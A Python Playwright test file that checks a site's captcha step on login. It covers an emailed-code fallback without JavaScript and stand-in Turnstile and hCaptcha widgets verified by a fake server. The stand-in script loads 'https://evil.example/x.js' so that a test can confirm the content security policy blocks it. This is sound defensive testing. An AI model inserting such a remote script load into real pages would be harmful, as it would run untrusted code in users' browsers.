"""The captcha in a real browser: without scripts, and with the widgets of Turnstile and hCaptcha.

Their servers are stood in for: the scripts below do in the page what theirs do (find the box, open a frame of their
origin in it, load another script, and put what the frame says into the form), and `SiteVerifyServer` verifies.
"""

import re
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack
from dataclasses import dataclass, replace
from typing import Any

import pytest
from playwright.async_api import Browser as Chromium
from playwright.async_api import Page, Route, expect

from models.tenants import Tenant
from tenure.abuse.risk import FREE
from tenure.app import create_app
from tenure.context import Context
from tenure.gateways.captcha.connect import Captchas
from tenure.gateways.captcha.contract import CaptchaKind
from tenure.identity.throttle import Operation
from tenure.kit import secrets
from tenure.services import Services
from tenure.settings import changing, places
from tenure.settings.changing import Wish
from tests.claims import in_full
from tests.door import Door
from tests.fakes.siteverify import SiteVerifyServer, siteverify
from tests.people import signed_in
from tests.site.conftest import PASSWORD
from tests.site.serving import serving
from tests.site.test_in_a_browser import Windows, port, window

__all__ = ["port", "window"]

EMAIL = "ada@example.com"
SECRET, SITE_KEY = "the secret of the site", "the-key-of-the-site"
PHONE = {"width": 360, "height": 740}


async def _guess_until_asked(page: Page, base: str) -> None:
    for _ in range(FREE[Operation.SIGN_IN][1].amount + 1):
        await page.goto(f"{base}/login")
        await page.get_by_label("Email").fill(EMAIL)
        await page.get_by_label("Password").fill("a wrong guess")
        await page.get_by_role("button", name="Sign in", exact=True).click()
    await expect(page.get_by_role("alert")).to_have_text("Complete the captcha, then try again.")


async def test_without_scripts_a_code_from_a_letter_opens_the_login(window: Windows, api: Door, mailbox: Any) -> None:
    await signed_in(api, EMAIL, PASSWORD)
    visitor = await window(viewport=PHONE)
    page = visitor.page
    await _guess_until_asked(page, visitor.base)
    await expect(page.get_by_text("JavaScript is turned off")).to_be_visible()
    await page.get_by_role("button", name="Email me a code instead").click()
    code = page.get_by_label("Code from the email")
    await expect(code).to_have_attribute("autocomplete", "one-time-code")
    found = re.search(r"^(\d{4} \d{4})$", (await mailbox(EMAIL))[0].text, re.MULTILINE)
    assert found
    await page.get_by_label("Password").fill(PASSWORD)
    await code.fill(found[1])
    await code.press("Enter")
    await expect(page.get_by_role("heading", name="My membership")).to_be_visible()


@dataclass(frozen=True)
class Provider:
    """Where its parts are, and what its script finds and fills."""

    kind: CaptchaKind
    script: str
    frame: str
    more: str
    box: str
    field: str


PROVIDERS = [
    Provider(
        CaptchaKind.TURNSTILE,
        "https://challenges.cloudflare.com/turnstile/v0/api.js",
        "https://challenges.cloudflare.com/cdn-cgi/challenge-platform/widget",
        "https://challenges.cloudflare.com/cdn-cgi/challenge-platform/more.js",
        ".cf-turnstile",
        "box.dataset.responseFieldName || 'cf-turnstile-response'",
    ),
    Provider(
        CaptchaKind.HCAPTCHA,
        "https://js.hcaptcha.com/1/api.js",
        "https://newassets.hcaptcha.com/captcha/v1/widget",
        "https://newassets.hcaptcha.com/captcha/v1/more.js",
        ".h-captcha",
        "'h-captcha-response'",
    ),
]
SCRIPT = """
document.addEventListener("securitypolicyviolation", event => {
  document.body.dataset.blocked = (document.body.dataset.blocked || "") + " " + event.blockedURI;
});
const load = source => document.head.append(Object.assign(document.createElement("script"), { src: source }));
for (const box of document.querySelectorAll("BOX")) {
  const source = "FRAME?k=" + box.dataset.sitekey;
  const frame = Object.assign(document.createElement("iframe"), { title: "Widget", src: source });
  const field = Object.assign(document.createElement("textarea"), { name: FIELD, hidden: true });
  box.append(frame, field);
  addEventListener("message", event => { if (event.source === frame.contentWindow) field.value = event.data; });
}
load("MORE");
load("https://evil.example/x.js");
"""
FRAME = """<!doctype html><button onclick='parent.postMessage("TOKEN", "*"); this.textContent = "Verified"'>
I am a person</button>"""


@dataclass
class World:
    """A site of that provider, a window at it, and the servers of the provider."""

    page: Page
    base: str
    token: str
    server: SiteVerifyServer
    asked: list[str]


@pytest.fixture(params=PROVIDERS, ids=lambda one: one.kind.value)
async def world(
    request: pytest.FixtureRequest, chromium: Chromium, services: Services, system: Context, business: Tenant
) -> AsyncIterator[World]:
    provider: Provider = request.param
    wishes = {"captcha.provider": provider.kind.value, "captcha.site_key": SITE_KEY, "captcha.secret": SECRET}
    await changing.change(system, places.business(system), [Wish(*one) for one in wishes.items()], "another captcha")
    token, asked, host = secrets.token(), [], f"{business.slug}.localhost"

    async def answer(route: Route) -> None:
        address = route.request.url
        asked.append(address)
        if address == provider.script:
            body = SCRIPT.replace("BOX", provider.box).replace("FIELD", provider.field)
            body = body.replace("FRAME", provider.frame).replace("MORE", provider.more)
            await route.fulfill(content_type="text/javascript", body=body)
        elif address.startswith(provider.frame):
            await route.fulfill(content_type="text/html", body=FRAME.replace("TOKEN", token))
        else:
            await route.fulfill(content_type="text/javascript", body="document.body.dataset.more = 'loaded'")

    async with AsyncExitStack() as stack:
        server = await stack.enter_async_context(siteverify(SECRET, host))
        captchas = Captchas(services.config.keyring, {provider.kind: server.address})
        stack.push_async_callback(captchas.close)
        at = await stack.enter_async_context(serving(create_app(services=replace(services, captchas=captchas))))
        context = await stack.enter_async_context(await chromium.new_context())
        context.set_default_timeout(10_000)
        await context.route("https://**/*", answer)
        yield World(await context.new_page(), f"http://{host}:{at}", token, server, asked)


async def test_a_widget_of_the_provider_opens_the_login(world: World, api: Door) -> None:
    await signed_in(api, EMAIL, PASSWORD)
    page = world.page
    await page.goto(f"{world.base}/login")
    assert world.asked == [], "the provider hears of nobody who is not asked"
    await _guess_until_asked(page, world.base)
    await page.frame_locator("iframe[title=Widget]").get_by_role("button", name="I am a person").click()
    await expect(page.frame_locator("iframe[title=Widget]").get_by_role("button", name="Verified")).to_be_visible()
    await expect(page.locator("body")).to_have_attribute("data-more", "loaded")
    blocked = await page.locator("body").get_attribute("data-blocked")
    assert (blocked or "").split() == ["https://evil.example/x.js"], "its own origins are let in, and no other"
    world.server.good.add(world.token)
    await page.get_by_label("Password").fill(PASSWORD)
    await page.get_by_role("button", name="Sign in", exact=True).click()
    await expect(page.get_by_role("heading", name="My membership")).to_be_visible()
    assert [(one["secret"], one["response"]) for one in world.server.asked] == [(SECRET, world.token)]
    assert any(f"k={SITE_KEY}" in address for address in world.asked)


@in_full
async def test_an_answer_that_the_provider_does_not_know_is_asked_for_again(world: World, api: Door) -> None:
    await signed_in(api, EMAIL, PASSWORD)
    page = world.page
    await _guess_until_asked(page, world.base)
    await page.frame_locator("iframe[title=Widget]").get_by_role("button", name="I am a person").click()
    await page.get_by_label("Password").fill(PASSWORD)
    await page.get_by_role("button", name="Sign in", exact=True).click()
    await expect(page.get_by_role("alert")).to_have_text("Complete the captcha, then try again.")
    await expect(page.frame_locator("iframe[title=Widget]").get_by_role("button")).to_be_visible()
    assert len(world.server.asked) == 1
